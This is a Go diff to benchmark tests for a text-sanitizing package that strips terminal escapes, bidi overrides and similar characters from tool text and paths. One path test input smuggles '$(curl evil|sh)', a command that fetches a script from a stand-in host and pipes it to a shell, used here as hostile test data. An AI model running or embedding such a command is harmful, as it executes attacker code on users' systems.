@@ -13,9 +13,15 @@ var sourceText = func() string {
 	return strings.Repeat(chunk, (1<<20)/len(chunk)+1)[:1<<20]
 }()
 
+// cjkText is 1 MiB of text that is mostly not ASCII and needs nothing.
 var cjkText = strings.Repeat("日本語のテキスト。Ünïcödé — emoji 👨‍👩‍👧\n", (1<<20)/64)
 
+// hostileText is 1 MiB with something to remove every few bytes.
 var hostileText = strings.Repeat("ok \x1b[31mred\x1b[0m \x1b]8;;http://x\x07link\x1b]8;;\x07 \u202eevil\U000E0041\n", (1<<20)/64)
+
+// prose is a typical tool description: one paragraph, nothing to change.
+var prose = "Read the complete contents of a file from the file system. Handles various text encodings " +
+	"and provides detailed error messages if the file cannot be read. Only works within allowed directories."
 
 func benchText(b *testing.B, s string) {
 	b.SetBytes(int64(len(s)))
@@ -27,6 +33,7 @@ func benchText(b *testing.B, s string) {
 func BenchmarkTextClean(b *testing.B)   { benchText(b, sourceText) }
 func BenchmarkTextCJK(b *testing.B)     { benchText(b, cjkText) }
 func BenchmarkTextHostile(b *testing.B) { benchText(b, hostileText) }
+func BenchmarkTextShort(b *testing.B)   { benchText(b, prose) }
 
 func BenchmarkNeedsText(b *testing.B) {
 	src := []byte(sourceText)
@@ -38,18 +45,41 @@ func BenchmarkNeedsText(b *testing.B) {
 	}
 }
 
-func BenchmarkFreeText(b *testing.B) {
-	s := sourceText[:4096]
-	b.SetBytes(int64(len(s)))
+func BenchmarkAppendTextHostile(b *testing.B) {
+	src := []byte(hostileText)
+	dst := make([]byte, 0, len(src))
+	b.SetBytes(int64(len(src)))
 	for b.Loop() {
-		FreeText(s, 4096)
+		dst, _ = AppendText(dst[:0], src)
 	}
 }
 
-func BenchmarkPath(b *testing.B) {
-	s := "/home/user/src/github.com/project/internal/pkg/file_name.go"
+func benchFreeText(b *testing.B, s string, max int) {
+	b.SetBytes(int64(len(s)))
+	for b.Loop() {
+		FreeText(s, max)
+	}
+}
+
+func BenchmarkFreeTextClean(b *testing.B)   { benchFreeText(b, prose, 0) }
+func BenchmarkFreeTextRewrite(b *testing.B) { benchFreeText(b, sourceText[:4096], 4096) }
+func BenchmarkFreeTextHostile(b *testing.B) { benchFreeText(b, hostileText[:4096], 4096) }
+
+// BenchmarkFreeTextCapped is a 1 MiB value cut to the default cap: the
+// cost is the scan, not a rewrite of the whole.
+func BenchmarkFreeTextCapped(b *testing.B) { benchFreeText(b, sourceText, 0) }
+
+func benchPath(b *testing.B, s string) {
 	b.SetBytes(int64(len(s)))
 	for b.Loop() {
 		Path(s)
 	}
+}
+
+func BenchmarkPathClean(b *testing.B) {
+	benchPath(b, "/home/user/src/github.com/project/internal/pkg/file_name.go")
+}
+
+func BenchmarkPathHostile(b *testing.B) {
+	benchPath(b, "/home/user/My Documents/résumé (final) $(curl evil|sh)/\x1b[31mfile.go")
 }
